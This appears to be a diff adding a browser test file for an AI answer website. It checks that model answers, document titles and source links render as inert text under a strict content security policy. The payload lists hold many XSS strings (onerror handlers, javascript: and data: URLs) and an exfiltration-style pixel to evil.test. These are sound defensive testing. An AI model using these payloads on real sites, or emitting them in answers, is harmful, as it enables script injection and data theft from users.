@@ -1,0 +1,253 @@
+// What others write can change nothing on the page but its text: a model's answer, a document's title
+// and snippet, an address, a question. Shown in a real browser, which tells whatever its policy refused.
+
+import { afterAll, afterEach, beforeAll, expect, it } from "vitest";
+import { bearerToken } from "../../scripts/bearer-token.ts";
+import { variables } from "../../scripts/variables.ts";
+import type { Source } from "../../src/protocol.ts";
+import { Site, type Visit } from "./site.ts";
+
+const HTML = [
+  "<img src=x onerror=hacked()>",
+  "<script>hacked()</script>",
+  "<svg/onload=hacked()>",
+  "<svg><script href='data:text/javascript,hacked()'/></svg>",
+  "<iframe srcdoc='<script>hacked()</script>'></iframe>",
+  "<iframe src=javascript:hacked()></iframe>",
+  "<math><mi xlink:href=javascript:hacked()>x</mi></math>",
+  "<details open ontoggle=hacked()>x</details>",
+  "<body onload=hacked()>",
+  "<style>@import 'https://evil.test/x.css'; body{display:none}</style>",
+  "<link rel=stylesheet href=https://evil.test/x.css>",
+  "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
+  "<base href=https://evil.test/>",
+  "<form action=https://evil.test/><button autofocus onfocus=hacked()>",
+  "<object data=https://evil.test/x></object><embed src=https://evil.test/x>",
+  "<template><img src=x onerror=hacked()></template>",
+  "<noscript><p title='</noscript><img src=x onerror=hacked()>'>",
+  "<a href=javascript:hacked() id=question name=fetch>x</a>",
+  "</div></article><h1 onclick=hacked()>over</h1>",
+  "<!--><img src=x onerror=hacked()>-->",
+  "<xmp><img src=x onerror=hacked()></xmp><plaintext>",
+];
+
+const MARKDOWN = [
+  "[a](javascript:hacked())",
+  "[b](JaVaScRiPt:hacked%28%29)",
+  "[c](&#106;avascript:hacked())",
+  "[d](\tjava\tscript:hacked())",
+  "[e](data:text/html,<script>hacked()</script>)",
+  "[f](vbscript:hacked)",
+  "[g](blob:https://evil.test/x) [h](file:///etc/passwd) [i](filesystem:x)",
+  "![j](javascript:hacked())",
+  "![k](https://evil.test/pixel.png?q=secret)",
+  "![l](data:image/svg+xml,<svg/onload=hacked()>)",
+  '[m](https://good.test" onmouseover="hacked())',
+  "[n](https://user:password@evil.test/)",
+  "[o](//evil.test/x) [p](/healthz) [q](#log) [r](mailto:a@b.test)",
+  '<javascript:hacked()> <https://evil.test/"onclick=hacked()>',
+  "[1](javascript:hacked()) [999] [1,999] 【1】 【1†<img src=x onerror=hacked()>】",
+  "[\u202Egnp.exe](https://good.test/)",
+  "```html onload=hacked()\n<script>hacked()</script>\n```",
+  "| <img src=x onerror=hacked()> | b |\n| --- | --- |\n| [s](javascript:hacked()) | `<script>` |",
+  "# <img src=x onerror=hacked()>\n\n> [t](javascript:hacked())\n\n- [x] <svg/onload=hacked()>",
+  "[ref]: javascript:hacked()\n\n[ref] [u][ref]",
+  "$$<img src=x onerror=hacked()>$$ \\(\\href{javascript:hacked()}{x}\\)",
+  "https://evil.test/<script>hacked()</script> http://[bad javascript://%0ahacked()",
+  "\u0000\u0008\u2028\u2029\uFEFF{{constructor.constructor('hacked()')()}} $\u007bhacked()}",
+];
+
+/** Elements and attributes that an answer may be made of; none fetches or runs anything. */
+const ELEMENTS =
+  /^(a|blockquote|br|button|code|div|em|h[3-6]|hr|li|ol|p|pre|s|span|strong|table|tbody|td|th|thead|tr|ul)$/;
+const ATTRIBUTES = /^(aria-label|class|dir|href|rel|start|tabindex|target|type)$/;
+
+let site: Site;
+const visits: Visit[] = [];
+
+beforeAll(async () => {
+  site = await Site.open();
+});
+afterAll(() => site?.close());
+
+async function newVisit(): Promise<Visit> {
+  const visit = await site.visit();
+  visits.push(visit);
+  await visit.page.evaluate(() => {
+    Object.assign(globalThis, { hacks: 0, hacked: () => Object.assign(globalThis, { hacks: 1 }) });
+  });
+  return visit;
+}
+
+afterEach(async () => {
+  const problems = visits.flatMap((visit) => visit.problems);
+  const hacks = await Promise.all(
+    visits.map(({ page }) => page.evaluate(() => (globalThis as { hacks?: number }).hacks)),
+  );
+  await Promise.all(visits.splice(0).map((visit) => visit.close()));
+  expect(problems).toEqual([]);
+  expect(hacks.filter((count) => count !== 0)).toEqual([]);
+});
+
+/** What an answer is made of that it should not be. */
+function strangers(visit: Visit, selector: string): Promise<string[]> {
+  return visit.page.evaluate(
+    ([selector, elements, attributes]) =>
+      [...document.querySelectorAll(`${selector} *`)].flatMap((node) => [
+        ...(new RegExp(elements).test(node.localName) ? [] : [node.outerHTML]),
+        ...[...node.attributes]
+          .filter(({ name }) => !new RegExp(attributes).test(name))
+          .map(({ name }) => `${name} of ${node.outerHTML}`),
+      ]),
+    [selector, ELEMENTS.source, ATTRIBUTES.source] as const,
+  );
+}
+
+function links(visit: Visit, selector: string) {
+  return visit.page.evaluate(
+    (selector) =>
+      [...document.querySelectorAll<HTMLAnchorElement>(`${selector} a`)].map((link) => {
+        const { protocol, rel, target } = link;
+        return { protocol, rel, target };
+      }),
+    selector,
+  );
+}
+
+const SAFE = { rel: "noopener noreferrer nofollow", target: "_blank" };
+const OF_THE_WEB = /^(https?|mailto):$/;
+
+/** In as many answers as it takes: a question, which tells the model what to say, has 4,000 characters. */
+const ANSWERS = [HTML, MARKDOWN.slice(0, 12), MARKDOWN.slice(12)];
+
+it.each([
+  ["whole", 4_000],
+  ["in pieces", 40],
+])("an answer that comes %s is text, and elements that do nothing", async (_how, length) => {
+  const visit = await newVisit();
+  for (const payloads of ANSWERS) {
+    await visit.ask({ tokens: pieces(payloads.join("\n\n"), length), ignoreMaxTokens: true });
+    await visit.answer();
+    expect(await strangers(visit, ".answer")).toEqual([]);
+    for (const link of await links(visit, ".answer")) {
+      expect(link).toMatchObject(SAFE);
+      expect(link.protocol).toMatch(OF_THE_WEB);
+    }
+  }
+  const shown = await visit.page.locator(".answer").first().textContent();
+  expect(shown).toContain("<img src=x onerror=hacked()>");
+  expect(shown).toContain("<script>hacked()</script>");
+  // All of it was there to be clicked on.
+  for (const cite of await visit.page.locator(".cite").all()) await cite.click();
+  await visit.page.mouse.move(400, 300);
+});
+
+it("an answer becomes the same elements however it is cut", async () => {
+  const visit = await newVisit();
+  const made: string[] = [];
+  for (const length of [4_000, 17, 5]) {
+    await visit.ask({ tokens: pieces(MARKDOWN.slice(0, 6).join("\n\n"), length) });
+    await visit.answer();
+    made.push(await visit.latest.locator(".answer").evaluate((answer) => answer.innerHTML));
+  }
+  expect(made[1]).toBe(made[0]);
+  expect(made[2]).toBe(made[0]);
+});
+
+it("a document's title, headings and text are text", async () => {
+  const token = await bearerToken(await variables(), { user: "ops", operator: true, seconds: 60 });
+  const [image = "", script = ""] = HTML;
+  const response = await fetch(`${site.server.url}/api/v1/admin/documents/hostile`, {
+    method: "PUT",
+    headers: { authorization: `Bearer ${token}`, "content-type": "application/json" },
+    body: JSON.stringify({
+      title: `Zeppelin ${image}`,
+      url: "https://good.test/zeppelin",
+      text: `# Zeppelin ${script}?\n\nA zeppelin ${HTML.join(" ")} flies.`,
+    }),
+  });
+  expect(response.status).toBe(201);
+  const visit = await newVisit();
+  await visit.page.reload();
+  await visit.page.locator("#examples", { hasText: "Zeppelin" }).waitFor();
+  await visit.page.evaluate(() => Object.assign(globalThis, { hacks: 0 }));
+  await visit.ask({ tokens: ["It flies [1]."] }, `What is a zeppelin ${image}?`);
+  await visit.answer();
+  await visit.latest.locator(".cite").click();
+  expect(await visit.latest.locator(".card[open]").textContent()).toContain(image);
+  expect(await visit.page.locator("#history").textContent()).toContain(image);
+  expect(await visit.page.locator("img, script:not([src]), iframe, object, embed").count()).toBe(0);
+});
+
+it("a source's address is followed only where it leads to the web", async () => {
+  const visit = await newVisit();
+  const addresses = [
+    "https://good.test/",
+    "/docs/limits",
+    "javascript:hacked()",
+    " \u0001javascript:hacked()",
+    "java\nscript:hacked()",
+    "data:text/html,<script>hacked()</script>",
+    "vbscript:hacked()",
+    "blob:https://evil.test/1",
+    "https://good.test@evil.test/",
+    "https://[",
+  ];
+  const sources: Source[] = addresses.map((url, i) => ({
+    n: i + 1,
+    id: `<b>#${i}`,
+    documentId: "<b>",
+    title: HTML[i] ?? "",
+    heading: [HTML[i + 1] ?? "", "<script>hacked()</script>"],
+    url,
+    snippet: HTML.join("\n"),
+    score: 1,
+  }));
+  const events = [
+    { type: "start", queryId: "1-0", quotaRemaining: 1 },
+    { type: "sources", sources },
+    { type: "token", token: "See [1][3]." },
+    { type: "done", queryId: "1-0", sources, finish: "stop", quotaRemaining: 1 },
+  ];
+  await visit.page.route("**/api/v1/ai/ask*", (route) =>
+    route.fulfill({
+      contentType: "text/event-stream",
+      body: events.map((event) => `data: ${JSON.stringify(event)}\n\n`).join(""),
+    }),
+  );
+  await visit.ask("Where?");
+  await visit.answer();
+  for (const summary of await visit.page.locator("summary").all()) await summary.click();
+  const found = await links(visit, ".sources");
+  expect(found).toHaveLength(2);
+  for (const link of found)
+    expect(link).toMatchObject({ ...SAFE, protocol: /^https?:$/.exec(link.protocol)?.[0] });
+});
+
+it("the browser would have told: its policy refuses what is tried here on purpose", async () => {
+  const visit = await newVisit();
+  const thrown = await visit.page.evaluate(() => {
+    const image = document.createElement("img");
+    image.src = "https://evil.test/pixel.png";
+    document.body.append(image);
+    const frame = document.createElement("iframe");
+    frame.src = "https://evil.test/";
+    document.body.append(frame);
+    try {
+      document.body.insertAdjacentHTML("beforeend", "<img src=x onerror=hacked()>");
+      return "nothing";
+    } catch (error) {
+      return (error as Error).name;
+    }
+  });
+  expect(thrown).toBe("TypeError");
+  const told = () => visit.problems.filter((problem) => problem.includes("policy: ")).join("\n");
+  await expect.poll(told).toMatch(/img-src https:\/\/evil\.test/);
+  await expect.poll(told).toMatch(/frame-src https:\/\/evil\.test/);
+  await expect.poll(told).toMatch(/require-trusted-types-for/);
+  visit.problems.length = 0;
+});
+
+function pieces(text: string, length: number): string[] {
+  return text.match(new RegExp(`[^]{1,${length}}`, "g")) ?? [];
+}
